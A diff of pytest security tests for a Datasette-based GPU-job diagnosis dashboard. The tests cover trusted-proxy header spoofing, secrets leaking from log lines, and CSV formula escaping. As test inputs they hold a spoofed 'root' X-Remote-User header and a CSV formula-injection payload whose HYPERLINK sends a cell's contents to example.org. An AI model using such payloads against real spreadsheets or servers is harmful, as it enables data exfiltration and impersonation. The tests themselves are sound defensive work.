@@ -2,13 +2,19 @@
 paths and reads a database its user may not write. Real Datasette: its own test client in this
 process (actors, headers, POST) and `datasette --get` as an unprivileged user."""
 import asyncio
+import csv
+import io
 import json
 import os
+import re
 import shutil
 import sqlite3
 import stat
+import socket
 import subprocess
+import sys
 import tempfile
+import time
 from pathlib import Path
 
 import pytest
@@ -16,7 +22,7 @@ import pytest
 from sattrib.analysis import analyze_folder, load_rules
 from sattrib.config import Settings
 from sattrib.demo import write_demo
-from sattrib.serve import HEADER_ENV, dashboard_dir, datasette_argv, metadata
+from sattrib.serve import HEADER_ENV, PROXY_ENV, dashboard_dir, datasette_argv, metadata
 from sattrib.store import Store
 
 LINE = "kernel: NVRM: Xid (PCI:0000:9d:00): 149"          # the demo's root evidence line
@@ -130,13 +136,92 @@ def test_sql_reaches_every_table_so_it_is_for_admins_only(db):
     assert anon == 403 and admin.status_code == 403
 
 
-def test_trusted_proxy_header_only_when_the_site_names_it(db, monkeypatch):
+def test_the_user_header_is_believed_only_from_the_trusted_proxy(db, monkeypatch):
+    """Datasette's test client connects as 127.0.0.1: the header counts only when the site names
+    both the header and that address as its proxy's."""
     async def requests(ds, client):
         return [(await client.get("/diagnoses/evidence.json", headers={"X-Remote-User": u}))
                 .status_code for u in ("alice", "mallory")]
     assert run(db, requests, serve_admins=["alice"]) == [403, 403]
     monkeypatch.setenv(HEADER_ENV, "X-Remote-User")
+    assert run(db, requests, serve_admins=["alice"]) == [403, 403]        # no proxy named
+    monkeypatch.setenv(PROXY_ENV, "10.0.0.9")
+    assert run(db, requests, serve_admins=["alice"]) == [403, 403]        # another address
+    monkeypatch.setenv(PROXY_ENV, "10.0.0.9,127.0.0.0/30")
     assert run(db, requests, serve_admins=["alice"]) == [200, 403]
+
+
+def _get(port: int, path: str, source: str, headers: dict) -> int:
+    import http.client
+    conn = http.client.HTTPConnection("127.0.0.1", port, source_address=(source, 0), timeout=30)
+    try:
+        conn.request("GET", path, headers=headers)
+        return conn.getresponse().status
+    finally:
+        conn.close()
+
+
+def test_a_spoofed_user_header_from_a_client_that_is_not_the_proxy_is_ignored(db, tmp_path):
+    """`sattrib serve` on every address, its proxy at 127.0.0.2. A client on 127.0.0.1 or
+    127.0.0.3 that says it is root (and that the proxy forwarded it) is anonymous; only a
+    request the proxy itself makes is root's."""
+    from test_dashboard import _free_port
+    port = _free_port()
+    cfg = tmp_path / "sattrib.toml"
+    cfg.write_text(f'serve_host = "0.0.0.0"\nserve_port = {port}\n'
+                   'serve_trusted_user_header = "X-Remote-User"\n'
+                   'serve_trusted_proxy = "127.0.0.2"\n')
+    env = dict(os.environ, SATTRIB_CONFIG=str(cfg), SATTRIB_DATABASE=str(db))
+    proc = subprocess.Popen([sys.executable, "-m", "sattrib", "serve"], env=env,
+                            stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True)
+    try:
+        for _ in range(150):
+            try:
+                socket.create_connection(("127.0.0.1", port), timeout=0.2).close()
+                break
+            except OSError:
+                time.sleep(0.1)
+        path = "/diagnoses/evidence.json"
+        root = {"X-Remote-User": "root"}
+        assert _get(port, path, "127.0.0.1", dict(root, **{"X-Forwarded-For": "127.0.0.2"})) \
+            == 403
+        assert _get(port, path, "127.0.0.3", root) == 403
+        assert _get(port, path, "127.0.0.2", {}) == 403
+        assert _get(port, path, "127.0.0.2", root) == 200
+    finally:
+        proc.terminate()
+        _, err = proc.communicate(timeout=20)
+    assert "warning" not in err                  # it is behind a named proxy
+
+
+@pytest.mark.parametrize("config,warned", [
+    ({"serve_host": "0.0.0.0"}, ["listening on 0.0.0.0:8001, beyond this machine"]),
+    ({"serve_host": "10.1.2.3", "serve_trusted_proxy": ["10.1.2.1"]}, []),
+    ({"serve_host": "127.0.0.1"}, []),
+    ({"serve_host": "::1", "serve_trusted_user_header": "X-Remote-User"},
+     ["serve_trusted_user_header (X-Remote-User) is ignored"]),
+])
+def test_serve_warns_when_open_beyond_this_machine_without_a_proxy(db, tmp_path, config, warned):
+    cfg = tmp_path / "sattrib.toml"
+    cfg.write_text("".join(f"{k} = {json.dumps(v)}\n" for k, v in config.items()))
+    r = subprocess.run([sys.executable, "-m", "sattrib", "serve", "--print-command"],
+                       env=dict(os.environ, SATTRIB_CONFIG=str(cfg), SATTRIB_DATABASE=str(db)),
+                       capture_output=True, text=True, timeout=120)
+    assert r.returncode == 0, r.stderr
+    lines = r.stderr.splitlines()
+    assert len(lines) == len(warned)
+    for line, want in zip(lines, warned):
+        assert line.startswith("sattrib serve: warning: ") and want in line
+
+
+def test_metadata_names_no_admins(db):
+    async def requests(ds, client):
+        return [await client.get(p) for p in ("/-/metadata.json", "/-/metadata")]
+    for r in run(db, requests, serve_admins=["alice", "bob"], serve_allow_sql=True):
+        assert r.status_code == 200
+        assert "alice" not in r.text and "bob" not in r.text and '"allow' not in r.text
+    js = run(db, requests, serve_admins=["alice"])[0].json()
+    assert js["databases"]["diagnoses"]["queries"]["search_evidence"]["sql"]
 
 
 def test_writes_answer_405(db):
@@ -277,3 +362,134 @@ def test_a_metrics_chart_and_graph_link_are_evidence_for_admins_only(metrics_db)
         assert secret not in anyone, secret
     ev = pages["anyone", "/diagnosis/test/2001/0.json"].json()["diagnosis"]["evidence"]
     assert ev and not any("metric" in e or "text" in e for e in ev)
+
+
+SECRET = "sk-live-SECRET123"
+
+
+def _job(folder: Path, job_id: str, files: dict) -> Path:
+    (folder / "slurm").mkdir(parents=True)
+    (folder / "slurm" / "job.txt").write_text(
+        f"JobId={job_id} JobName=train\n   UserId=alice(1000) GroupId=alice(1000)\n"
+        "   JobState=FAILED Reason=NonZeroExitCode\n   Restarts=0 ExitCode=1:0\n"
+        "   StartTime=2026-11-02T09:00:00 EndTime=2026-11-02T10:30:00\n"
+        "   Partition=gpu\n   NodeList=node-[01-02]\n")
+    for rel, text in files.items():
+        (folder / rel).parent.mkdir(parents=True, exist_ok=True)
+        (folder / rel).write_text(text + "\n")
+    return folder
+
+
+@pytest.fixture(scope="module")
+def secret_db(tmp_path_factory):
+    """The demo, a rank whose exception holds a secret, and two nodes whose kernels kill a
+    process named by a secret in the same second (two candidates)."""
+    d = tmp_path_factory.mktemp("dashsecret")
+    path = d / "diagnoses.db"
+    rules = load_rules()
+    store = Store(path)
+    kill = ("2026-11-02T10:00:00+0000 {n} kernel: Out of memory: Killed process 99 ({c}) "
+            "total-vm:1kB, anon-rss:1kB")
+    for folder in (write_demo(d / "demo"),
+                   _job(d / "j1", "1002", {"node-02/rank-3.err":
+                                           f"[rank3]: KeyError: 'api_token={SECRET}'"}),
+                   _job(d / "j2", "1003", {
+                       "node-01/journal.log": kill.format(n="node-01", c=SECRET),
+                       "node-02/journal.log": kill.format(n="node-02", c=SECRET)})):
+        diag, _ = analyze_folder(folder, rules=rules)
+        store.upsert(diag, "test", bundle_path=str(folder))
+    store.sync_rules(rules)
+    return path
+
+
+async def _every_page(ds) -> list[str]:
+    """Every page the dashboard serves for this database: Datasette's own, each table and view
+    and canned query (HTML, JSON, CSV; a query's parameters filled in), and the plugin's pages
+    for each diagnosis, job, node and GPU it holds. Fails when a plugin route got no page."""
+    from datasette.plugins import pm
+    from datasette.utils import tilde_encode
+    db = ds.get_database("diagnoses")
+    pages = ["/", "/diagnoses", "/-/summary.json"] + [
+        f"/-/{p}{ext}" for p in ("metadata", "databases", "settings", "plugins", "versions",
+                                 "threads", "actor") for ext in ("", ".json")]
+    names = await db.table_names() + await db.view_names()
+    queries = await ds.get_canned_queries("diagnoses", None)
+    filled = {"days": "3650", "q": "KeyError"}
+    for name in names:
+        pages += [f"/diagnoses/{tilde_encode(name)}{ext}" for ext in ("", ".json", ".csv")]
+    for name, q in queries.items():
+        args = "&".join(f"{p}={filled.get(p, '')}" for p in sorted(set(
+            re.findall(r":(\w+)", q["sql"]))))
+        pages += [f"/diagnoses/{name}{ext}?{args}" for ext in ("", ".json", ".csv")]
+    rows = (await db.execute("select cluster, job_id, restart, culprit_node, gpu_serial "
+                             "from diagnoses")).rows
+    nodes = [r[0] for r in (await db.execute("select distinct node from job_nodes")).rows]
+    for r in rows:
+        pages += [f"/diagnosis/{r['cluster']}/{r['job_id']}/{r['restart']}{ext}"
+                  for ext in ("", ".json")]
+        pages += [f"/job{ext}?id={r['job_id']}" for ext in ("", ".json")]
+        pages += [f"/gpu/{r['gpu_serial']}{ext}" for ext in ("", ".json") if r["gpu_serial"]]
+    pages += [f"/node/{n}{ext}" for n in nodes for ext in ("", ".json")]
+    routes = [rx for impl in pm.hook.register_routes(datasette=ds) for rx, _ in impl or []]
+    for rx in routes:
+        assert any(re.match(rx, p.split("?")[0]) for p in pages), \
+            f"no page for the plugin's route {rx}"
+    assert "search_evidence" in queries and "evidence_fts_data" in names
+    return sorted(set(pages))
+
+
+def test_no_page_shows_anyone_a_secret_from_a_log_line(secret_db):
+    """Anonymous visitors get every page (or 403 for the evidence tables and queries); none
+    holds the secret a program printed or the process name a kernel quoted. Admins see it in
+    the evidence."""
+    from sattrib.serve import TEXT_QUERIES, TEXT_TABLES
+
+    async def requests(ds, client):
+        pages = await _every_page(ds)
+        anon = {p: await client.get(p) for p in pages}
+        admin = await client.get("/diagnoses/evidence.json?_shape=array", cookies=root_cookie(ds))
+        return anon, admin
+    anon, admin = run(secret_db, requests)
+    assert len(anon) > 100
+    for p, r in anon.items():
+        name = p.split("?")[0].rsplit("/", 1)[-1].split(".")[0]
+        private = p.startswith("/diagnoses/") and name in TEXT_TABLES + TEXT_QUERIES
+        assert r.status_code in ((403,) if private else (200, 302)), (p, r.status_code)
+        assert SECRET not in r.text, p
+    assert "rank 3 on node-02 raised KeyError" in anon["/diagnosis/test/1002/0"].text
+    assert "Out of memory on node-01: killed process 99" in anon["/diagnoses/candidates.json"].text
+    assert any(SECRET in row["text"] for row in admin.json())
+
+
+FORMULA = '=HYPERLINK("http://example.org/?"&A1,"open")'
+
+
+def test_csv_cells_never_start_a_formula(tmp_path):
+    """Datasette writes CSV itself: a partition (and a job name) that reads as a formula comes
+    out of every CSV with a ' before it; numbers and the HTML page stay as they are."""
+    folder = _job(tmp_path / "j", "1004", {"node-02/rank-3.err": "[rank3]: KeyError: 'x'"})
+    job = folder / "slurm" / "job.txt"
+    job.write_text(job.read_text().replace("JobName=train", "JobName=@SUM(1+1)")
+                   .replace("Partition=gpu", f"Partition={FORMULA}"))
+    path = tmp_path / "d.db"
+    diag, _ = analyze_folder(folder, rules=load_rules())
+    assert diag.job.partition == FORMULA and diag.job.name == "@SUM(1+1)"
+    Store(path).upsert(diag, "test", bundle_path=str(folder))
+
+    async def requests(ds, client):
+        return {p: await client.get(p) for p in (
+            "/diagnoses/recent_failures.csv?days=3650", "/diagnoses/recent_failures.json?"
+            "days=3650&_shape=array",
+            "/diagnoses/diagnoses.csv?_col=job_name&_col=partition&_col=culprit_rank",
+            "/diagnoses/recent_failures?days=3650")}
+    got = run(path, requests, serve_evidence_text="all")
+    csv_page = got["/diagnoses/recent_failures.csv?days=3650"]
+    rows = list(csv.DictReader(io.StringIO(csv_page.text)))
+    assert rows and rows[0]["partition"] == "'" + FORMULA
+    assert int(csv_page.headers["content-length"]) == len(csv_page.content)
+    rows = list(csv.DictReader(io.StringIO(
+        got["/diagnoses/diagnoses.csv?_col=job_name&_col=partition&_col=culprit_rank"].text)))
+    assert rows[0]["job_name"] == "'@SUM(1+1)" and rows[0]["culprit_rank"] == "3"
+    assert got["/diagnoses/recent_failures.json?days=3650&_shape=array"].json()[0][
+        "partition"] == FORMULA
+    assert "&#39;=HYPERLINK" not in got["/diagnoses/recent_failures?days=3650"].text
